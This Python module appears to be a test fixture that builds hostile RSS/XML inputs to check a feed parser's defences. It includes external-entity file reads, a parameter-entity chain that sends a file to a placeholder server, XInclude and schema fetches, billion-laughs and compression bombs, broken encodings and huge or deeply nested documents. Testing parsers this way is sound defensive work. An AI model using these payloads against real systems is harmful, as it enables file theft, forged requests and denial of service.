"""Documents made to hang, to fill the memory, or to make us read a file or knock at a door.

They are made when they are asked for: together they would fill the memory of the tests.
"""

import gzip
import io
import zipfile

LINK = "<link>https://phare.example.org/port</link>"


def rss(inside, head="", attributes=""):
    text = f'<?xml version="1.0"?>{head}<rss version="2.0"{attributes}><channel>{inside}</channel></rss>'
    return text.encode()


def item(inside):
    return f"<item>{LINK}<description>{inside}</description></item>"


def html(inside):
    return rss(item(f"<![CDATA[{inside}]]>"))


def doctype(declared):
    return f"<!DOCTYPE rss [{declared}]>"


def zipped(body):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("feed.xml", body)
    return file.getvalue()


def labelled(encoding, inside=b""):
    return f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + b"<rss version='2.0'><channel>" + inside


def laughs(break_lines=""):
    first = '<!ENTITY l0 "ha">'
    return doctype(first + "".join(f'{break_lines}<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9)))


# `FILE` and `DOOR` stand for a file with a secret, and for a server that nobody should knock at.
REACHING_OUT = {
    "external entity, a file": lambda: rss(item("&x;"), doctype('<!ENTITY x SYSTEM "file://FILE">')),
    "external entity, a path": lambda: rss(item("&x;"), doctype('<!ENTITY x SYSTEM "FILE">')),
    "external entity, a server": lambda: rss(item("&x;"), doctype('<!ENTITY x SYSTEM "DOOR">')),
    "external entity, public": lambda: rss(item("&x;"), doctype('<!ENTITY x PUBLIC "-//A//B" "DOOR">')),
    "external entity, on its own line": lambda: rss(item("&x;"), doctype('\n<!ENTITY x SYSTEM "file://FILE">\n')),
    "external entity, in UTF-16": lambda: rss(item("&x;"), doctype('<!ENTITY x SYSTEM "file://FILE">'))
    .decode()
    .encode("utf-16"),
    "external entity, in UTF-7": lambda: labelled("utf-7")
    + b"+ADwAIQ-DOCTYPE a [+ADwAIQ-ENTITY x SYSTEM 'file://FILE'+AD4]+AD4- +ACY-x;",
    "parameter entity": lambda: rss(item("x"), doctype('<!ENTITY % p SYSTEM "DOOR">%p;')),
    "parameter entity that carries a file away": lambda: rss(
        item("&s;"),
        doctype(
            '<!ENTITY % f SYSTEM "file://FILE"><!ENTITY % d "<!ENTITY s SYSTEM \'DOOR?%f;\'>">%d;'
        ),
    ),
    "document type, from a server": lambda: rss(item("x"), '<!DOCTYPE rss SYSTEM "DOOR/rss.dtd">'),
    "document type, public": lambda: rss(item("x"), '<!DOCTYPE rss PUBLIC "-//A//B" "DOOR/rss.dtd">'),
    "XInclude, a file": lambda: rss(item("<x:include xmlns:x='http://www.w3.org/2001/XInclude' href='file://FILE'/>")),
    "XInclude, text from a server": lambda: rss(
        item("<x:include xmlns:x='http://www.w3.org/2001/XInclude' parse='text' href='DOOR'/>")
    ),
    "style sheet": lambda: b'<?xml-stylesheet type="text/xsl" href="DOOR"?>' + rss(item("x"))[21:],
    "schema": lambda: rss(item("x"), attributes=' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" '
                  'i:noNamespaceSchemaLocation="DOOR"'),
    "base elsewhere": lambda: rss(item("x"), attributes=' xml:base="file://FILE"'),
    "notation": lambda: rss(item("x"), doctype('<!NOTATION n SYSTEM "DOOR"><!ENTITY x SYSTEM "FILE">')),
    "an address instead of a document": lambda: b"DOOR",
    "a path instead of a document": lambda: b"FILE",
}  # fmt: skip

MULTIPLYING = {
    "a billion laughs": lambda: rss(item("&l9;"), laughs()),
    "a billion laughs, line by line": lambda: rss(item("&l9;"), laughs("\n")),
    "a billion laughs in an attribute": lambda: rss(f"<item>{LINK}<enclosure url='&l9;'/></item>", laughs()),
    "quadratic blow-up": lambda: rss(item("&a;" * 20_000), doctype(f'<!ENTITY a "{"a" * 20_000}">')),
    "an entity of itself": lambda: rss(item("&a;"), doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">')),
    "a parameter entity of itself": lambda: rss(item("x"), doctype('<!ENTITY % a "&#37;a;">%a;')),
    "gzip": lambda: gzip.compress(rss(item("x") * 100_000)),
    "zip": lambda: zipped(rss(item("x") * 100_000)),
}

BROKEN = {
    "invalid UTF-8": lambda: rss(item("\x00")).replace(b"\0", b"\xff\xc0\xaf\xed\xa0\x80\xf5" * 1_000),
    "invalid UTF-16": lambda: b"\xff\xfe" + rss(item("x")).decode().encode("utf-16-le") + b"\x00\xd8\x3c",
    "invalid UTF-32": lambda: b"\xff\xfe\0\0" + b"\xff" * 4_001,
    "UTF-16 in name only": lambda: labelled("utf-16", item("x").encode()),
    "an encoding that unpacks": lambda: labelled("bz2"),
    "an encoding of Python": lambda: labelled("unicode_escape", b"\\x3citem\\x3e" * 1_000),
    "an encoding with memory": lambda: labelled("iso-2022-jp", b"\x1b$B" + b"$" * 10_001),
    "NULs": lambda: rss(item("a\0" * 500_000)),
    "nothing but NULs": lambda: b"\0" * 8_000_000,
    "nothing but 0xFF": lambda: b"\xff" * 8_000_000,
    "nothing but blanks": lambda: b" " * 8_000_000,
    "halves of letters": lambda: rss(item("&#xD800;&#xDFFF;&#0;&#x110000;" * 1_000)),
    "processing instructions": lambda: rss("<?php exit; ?>" * 10_000 + item("x")),
    "a CDATA section without end": lambda: rss(item("<![CDATA[" * 10_000)),
    "a document type without end": lambda: b"<!DOCTYPE rss [" * 10_000,
}

LARGE = {
    "100,000 deep": lambda: rss(f"<item>{'<a>' * 100_000}{'</a>' * 100_000}</item>"),
    "100,000 deep, as HTML": lambda: html("<div>" * 100_000 + "</div>" * 100_000),
    "200,000 tags unclosed": lambda: rss(item("<b>" * 200_000)),
    "200,000 tags unclosed, as HTML": lambda: html("<p>" * 200_000),
    "200,000 items unclosed": lambda: rss("<item>" * 200_000),
    "200,000 tags begun": lambda: rss(item("<a " * 200_000)),
    "200,000 comments begun": lambda: rss(item("<!--" * 200_000)),
    "200,000 comments begun, as HTML": lambda: html("<!--" * 200_000),
    "as many as pass, unclosed": lambda: rss(item("<b>" * 29_000)),
    "as many as pass, as HTML": lambda: html("<p>" * 29_000),
    "as many as pass, begun": lambda: html("<a " * 29_000),
    "as many as pass, nested bases": lambda: rss("<a xml:base='x/'>" * 900 + item("x")),
    "a huge attribute": lambda: rss(f"<item a='{'x' * 7_000_000}'>{LINK}</item>"),
    "200,000 attributes": lambda: rss(
        "<item " + " ".join(f"a{n}=''" for n in range(200_000)) + f">{LINK}</item>"
    ),
    "a huge text": lambda: rss(item("x " * 3_500_000)),
    "a huge name": lambda: rss(item(f"<{'x' * 7_000_000}/>")),
    "a huge title": lambda: rss(f"<item>{LINK}<title>{'&lt;' * 1_500_000}</title></item>"),
    "a huge author": lambda: rss(f"<item>{LINK}<author>{'a.' * 500_000}</author></item>"),
    "a huge date": lambda: rss(f"<item>{LINK}<pubDate>{'1 ' * 1_000_000}</pubDate></item>"),
    "a huge style": lambda: html(f"<p style='{'a:b;' * 1_500_000}'>x</p>"),
    "a million entities": lambda: rss(item("&eacute;" * 1_000_000)),
    "a million ampersands": lambda: html("&" * 1_000_000),
    "a flood of namespaces": lambda: rss(
        "".join(f"<n{n}:a xmlns:n{n}='http://n/{n}'/>" for n in range(100_000))
    ),
    "a flood of namespaces at the root": lambda: rss(
        item("x"), attributes="".join(f" xmlns:n{n}='http://n/{n}'" for n in range(100_000))
    ),
    "a flood of categories": lambda: rss(
        f"<item>{LINK}{''.join(f'<category>{n}</category>' for n in range(200_000))}</item>"
    ),
    "a flood of entities": lambda: rss(
        item("x"), doctype("".join(f"<!ENTITY a{n} 'x'>" for n in range(200_000)))
    ),
    "100,000 items": lambda: rss(item("x") * 60_000),
    "100,000 items, in UTF-16": lambda: (
        rss("<item><link>http://a/</link></item>" * 100_000).decode().encode("utf-16")
    ),
    "encoded: punycode": lambda: labelled("punycode", b"a-" * 500_000 + b"b99" * 200_000),
    "encoded: UTF-7": lambda: labelled("utf-7", b"+ADw-" * 1_000_000),
}
